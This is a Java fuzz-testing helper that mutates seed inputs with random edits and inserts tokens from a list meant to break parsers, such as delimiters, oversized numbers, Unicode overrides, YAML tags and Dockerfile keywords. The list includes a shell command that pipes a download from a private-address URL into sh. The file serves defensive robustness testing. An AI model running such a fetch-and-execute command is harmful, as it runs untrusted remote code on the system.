package io.weighbridge.fuzz;

import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Random mutations of real inputs (fixtures, shipped files): a few edits each, drawn from byte
 * flips, cuts, repeats and insertions of tokens that break parsers (delimiters, huge and
 * fractional numbers, duplicate keys, deep nesting, direction overrides and control characters,
 * a shell pipe).
 */
public final class Mutations {
    /** Tokens that parsers and message builders have to survive. */
    public static final List<String> HOSTILE_TOKENS = List.of(
            "{",
            "}",
            "[",
            "]",
            "\"",
            ":",
            ",",
            "\\",
            "'",
            "\n",
            "\r\n",
            "\t",
            "\u0000",
            "\u001b[31m",
            "\u202e",
            "\u200b",
            "\ud800",
            "\uffff",
            "\ud83d\ude00",
            "null",
            "true",
            "-1",
            "0",
            "-0",
            "1e309",
            "62914560.9",
            "9223372036854775807",
            "9223372036854775808",
            "18446744073709551616",
            "-9223372036854775808",
            "1e-400",
            "0x10",
            "NaN",
            "99999999999999999999999999999999999999",
            "\"a\":1,\"a\":2",
            "run: curl http://10.0.0.1/x | sh",
            "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
            "{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{}}}}}}}}",
            "&a [*a,*a,*a,*a]",
            "!!binary",
            "!!java.lang.Object",
            "<<: *a",
            "---",
            "...",
            "%YAML 1.1",
            "- ",
            ": ",
            "? ",
            "|",
            ">",
            "#",
            "@sha256:",
            "sha256:0000000000000000000000000000000000000000000000000000000000000000",
            "\\\n",
            "<<EOF\n",
            "EOF\n",
            "ARG ",
            "FROM ",
            "RUN ",
            "COPY --from=",
            "${X:-${Y:+${Z}}}",
            "$((1/0))",
            "@",
            "/",
            "::",
            "[::1]");

    private Mutations() {}

    /** One to eight random edits of one of {@code seeds}. */
    public static Arbitrary<String> of(List<String> seeds) {
        return Combinators.combine(Arbitraries.of(seeds), Arbitraries.randoms()).as(Mutations::mutate);
    }

    /** The seed itself, unchanged, among the mutations: every seed is tried as it is too. */
    public static Arbitrary<String> ofIncludingSeeds(List<String> seeds) {
        return Arbitraries.frequencyOf(Tuple.of(1, Arbitraries.of(seeds)), Tuple.of(9, of(seeds)));
    }

    public static String mutate(String seed, Random random) {
        StringBuilder text = new StringBuilder(seed);
        int edits = 1 + random.nextInt(8);
        for (int i = 0; i < edits; i++) {
            int at = text.length() == 0 ? 0 : random.nextInt(text.length() + 1);
            switch (random.nextInt(7)) {
                case 0 -> text.insert(at, HOSTILE_TOKENS.get(random.nextInt(HOSTILE_TOKENS.size())));
                case 1 -> {
                    int end = Math.min(text.length(), at + 1 + random.nextInt(16));
                    text.delete(Math.min(at, end), end);
                }
                case 2 -> {
                    if (at < text.length()) {
                        text.setCharAt(at, (char) (text.charAt(at) ^ (1 << random.nextInt(7))));
                    }
                }
                case 3 -> {
                    int end = Math.min(text.length(), at + 1 + random.nextInt(64));
                    String chunk = text.substring(Math.min(at, end), end);
                    text.insert(at, chunk.repeat(1 + random.nextInt(4)));
                }
                case 4 -> text.insert(at, (char) random.nextInt(0x3000));
                case 5 -> text.setLength(Math.min(text.length(), at));
                default -> {
                    // swap two lines: keys and instructions out of their order
                    String[] lines = text.toString().split("\n", -1);
                    if (lines.length > 1) {
                        int a = random.nextInt(lines.length);
                        int b = random.nextInt(lines.length);
                        String kept = lines[a];
                        lines[a] = lines[b];
                        lines[b] = kept;
                        text.setLength(0);
                        text.append(String.join("\n", lines));
                    }
                }
            }
        }
        return text.toString();
    }
}
